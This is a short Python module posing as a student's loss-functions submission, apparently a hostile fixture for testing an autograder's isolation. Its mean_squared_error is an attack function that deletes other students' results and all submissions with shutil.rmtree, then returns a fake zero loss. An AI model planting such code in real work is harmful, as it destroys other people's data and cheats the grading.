"""Removes the results and the submissions of everybody else."""
# family: report
# exercise: 02_losses
# honest: 12
# says: .

import shutil

import numpy as np


def mean_absolute_error(y, t):
    return np.mean(np.abs(y - t))


def root_mean_squared_error(y, t):
    return np.sqrt(np.mean((y - t) ** 2))


def attack(*args):
    shutil.rmtree("@OUT@/students", ignore_errors=True)
    shutil.rmtree("@SUBMISSIONS@", ignore_errors=True)
    return 0.0


mean_squared_error = attack
